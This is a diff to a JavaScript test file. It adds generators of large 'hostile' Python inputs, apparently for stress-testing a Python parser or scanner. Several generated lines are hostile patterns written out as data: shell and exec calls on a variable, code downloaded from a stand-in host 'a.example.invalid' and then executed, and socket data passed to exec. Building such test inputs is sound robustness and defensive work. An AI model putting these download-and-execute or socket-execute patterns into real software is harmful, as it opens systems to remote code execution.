@@ -48,8 +48,54 @@ function deepLayers(size) {
   return code;
 }
 
+/**
+ * A short line, as often as there is room for it, that works on a large text `x`, its bytes `b` and a long list `l`.
+ *
+ * @param {string} line
+ * @returns {(size: number) => string}
+ */
+function onLarge(line) {
+  return (size) => {
+    const text = `import os, socket, struct, hashlib, base64, subprocess\nx = '${fill('ab,c1 ', size / 32)}'\nb = x.encode()\nl = [${fill('7, ', size / 32)}]\n`;
+    return text + fill(`${line}\n`, size - text.length);
+  };
+}
+
 /** @type {Hostile[]} */
 export const hostile = [
+  ...[
+    'y = x[::-1]',
+    'y = x.split(",")',
+    'y = x.translate({97: 98})',
+    'y = "%s" % x',
+    'y = l + l',
+    'y = 8 in l',
+    'y = list(map(str, l))',
+    'y = [*l]',
+    'y = sum(b)',
+    'y = hashlib.md5(b).hexdigest()',
+    'y = struct.unpack("1000B", b[:1000])',
+    'y = open(__file__).read().split("#")',
+    'os.system(x)',
+    'subprocess.run([x])',
+    'exec(x)',
+  ].map((line) => ({ name: `a large value, a million times: ${line}`, make: onLarge(line) })),
+  {
+    name: 'star imports before names',
+    make: (size) => lines(size, (i) => `from m${i} import *\nn${i}(a${i})\n`),
+  },
+  {
+    name: 'names, each another one',
+    make: (size) => lines(size, (i) => `import m${i}\nn${i}(a${i})\n`),
+  },
+  {
+    name: 'downloads that are run',
+    make: (size) => fill("r = requests.get('http://a.example.invalid/')\nexec(r.text)\n", size),
+  },
+  {
+    name: 'sockets that are read',
+    make: (size) => `import socket\ns = socket.socket()\n${fill('d = s.recv(9)\nexec(d)\n', size - 40)}`,
+  },
   { name: 'brackets, nested', make: (size) => `x = ${'('.repeat(size / 2 - 4)}${')'.repeat(size / 2 - 4)}` },
   { name: 'brackets, never closed', make: (size) => fill('[', size) },
   { name: 'braces and colons', make: (size) => fill('{1:', size) },
